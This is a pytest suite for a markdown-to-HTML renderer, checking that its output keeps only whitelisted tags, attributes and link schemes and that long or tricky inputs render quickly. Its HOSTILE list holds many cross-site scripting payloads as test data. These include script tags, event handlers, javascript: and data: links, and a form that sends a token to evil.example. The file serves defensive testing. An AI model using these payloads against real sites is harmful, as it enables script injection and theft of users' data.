"""Responses as HTML: nothing that whoever wrote them could have the page do."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from palate.serve import markdown
from palate.serve.markdown import LONGEST, SCHEMES, to_html
from palate.wording import printable

if TYPE_CHECKING:
    from collections.abc import Sequence

TAGS = set(
    "p br hr h4 h5 h6 em strong s a code pre blockquote ul ol li div table thead tbody tr th "
    "td".split()
)
ATTRIBUTES = {
    "a": {"href", "title", "target", "rel"},
    "ol": {"start"},
    "div": {"class", "role", "aria-label", "tabindex"},
    "p": {"class"},
    "code": {"class"},
}


class Read(HTMLParser):
    """Collects what a browser would find in HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: Sequence[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def links(html: str) -> list[str]:
    return [value for tag, name, value in Read(html).attributes if (tag, name) == ("a", "href")]


def check_harmless(html: str) -> None:
    found = Read(html)
    assert set(found.tags) <= TAGS
    for tag, name, _ in found.attributes:
        assert name in ATTRIBUTES.get(tag, set()), (tag, name)
    for link in links(html):
        assert urlsplit(link).scheme in SCHEMES, link
    assert not any(c < " " and c != "\n" for c in html)
    html.encode()  # half an emoji has no UTF-8


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><svg><animate onbegin=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "<style>body{display:none}</style><link rel=stylesheet href=//e>",
    '<form action="https://evil.example"><input name=token></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=//evil.example>',
    "<!-- <script>alert(1)</script> --><!doctype html><![CDATA[<script>]]>",
    "</div></main></body><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](&#106&#97vascript&colon;alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](file:///etc/passwd) [b](blob:https://e) [c](about:blank) [d](view-source:x)",
    "[a](//evil.example) [b](/owner) [c](owner/logout) [d](?x) [e](#main) [f](\\\\evil)",
    "[a][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)> <data:text/html,x> <file:///x>",
    "![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![a](https://evil.example/pixel.png)",
    '![a" onerror="alert(1)](https://e/x"onerror="alert(1))',
    '[a](https://e "x\\" onmouseover=\'alert(1)\'")',
    '[a](https://e/"onmouseover="alert(1))',
    "[![a](https://e/p.png)](https://l)",
    "[a [b](https://inner)](https://outer)",
    "`</code><script>alert(1)</script>`",
    '```html" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
    "|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "# <script>alert(1)</script>\n\n> <img src=x onerror=alert(1)>\n\n- <svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\u202e<script>\u202c \ufeff<script> \uff1cscript\uff1e \u2028<script>\u2029",
    "half an emoji \ud83d, a zero \x00 and an escape \x1b[31m",
    "a" + "\u0301" * 2000,
    "<" * 300 + "a" + ">" * 300,
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:40])
def test_hostile_text_is_shown_and_does_nothing(text: str) -> None:
    check_harmless(to_html(text))


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text)[:40])
def test_each_belt_holds_alone(text: str) -> None:
    """The renderer without the cleaner, and the cleaner with raw HTML."""
    check_harmless(markdown._markdown().render(printable(text)))
    check_harmless(markdown._cleaned(printable(text)))


@settings(deadline=None, derandomize=True, max_examples=150)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(
                "<script> </div> [ ]( ](javascript: ](https://e ) ![ ` ``` ** _ | |- # > - 1. "
                "\" ' \\ &colon; &#x3c; <a: onclick= ~~ <!-- --> \n \n\n".split(" ")
            ),
            st.text(max_size=4),
        ),
        max_size=30,
    )
)
def test_any_text_is_harmless(parts: list[str]) -> None:
    check_harmless(to_html("".join(parts)))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("**b** _i_ ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>\n"),
        ("# a\n\n### b", "<h4>a</h4>\n<h6>b</h6>\n"),
        ("3. x\n4. y", '<ol start="3">\n<li>x</li>\n<li>y</li>\n</ol>\n'),
        ("```py\n1 < 2\n```", "<pre><code>1 &lt; 2\n</code></pre>\n"),
        ("it <i>is</i> & stays", "<p>it &lt;i&gt;is&lt;/i&gt; &amp; stays</p>\n"),
    ],
)
def test_markdown_is_shown_as_meant(text: str, html: str) -> None:
    assert to_html(text) == html


def test_links_leave_no_trace_and_open_apart() -> None:
    found = Read(to_html('[a](https://e.example/x "t") <mailto:a@e.example>')).attributes
    assert ("a", "href", "https://e.example/x") in found
    assert ("a", "href", "mailto:a@e.example") in found
    assert found.count(("a", "rel", "nofollow noopener noreferrer")) == 2
    assert found.count(("a", "target", "_blank")) == 2


def test_an_image_elsewhere_is_a_link_with_its_name() -> None:
    html = to_html("![a *cat*](https://e.example/c.png)")
    assert links(html) == ["https://e.example/c.png"]
    assert Read(html).text.strip() == "a cat"
    assert "img" not in Read(html).tags


def test_no_link_is_without_a_name() -> None:
    for text in ("[](https://e.example)", "![](https://e.example)", "[![](https://a)](https://b)"):
        html = to_html(text)
        assert len(links(html)) == 1
        assert Read(html).text.strip()


def test_a_wide_table_can_be_moved_by_keys() -> None:
    html = to_html("|a|b|\n|-|-|\n|1|2|")
    assert html.startswith('<div class="scroll" role="group" aria-label="table" tabindex="0">')
    assert html.rstrip().endswith("</table>\n</div>")


def test_a_very_long_text_is_shown_as_it_is() -> None:
    html = to_html("**<b>**" * LONGEST)
    assert html.startswith('<p class="plain">**&lt;b&gt;**')
    check_harmless(html)


SLOW = {
    "brackets": "[",
    "quotes": ">",
    "stars": "*a ",
    "links": "[a](b",
    "images": "![a](",
    "rows": "|a|a|a|a|\n",
    "ticks": "`a``b",
    "entities": "&#",
    "nested emphasis": "*_",
    "images in emphasis": "![a](b)",
    "autolinks": "<a:",
    "references": "[a]: b\n",
    "deep lists": "- ",
    "comments": "<!--",
}


@pytest.mark.parametrize("name", SLOW)
def test_no_text_takes_long(name: str) -> None:
    piece = SLOW[name]
    text = "**" + piece * ((LONGEST - 4) // len(piece)) + "**"
    began = time.process_time()
    to_html(text)
    assert time.process_time() - began < 4.0  # usual is 0.3
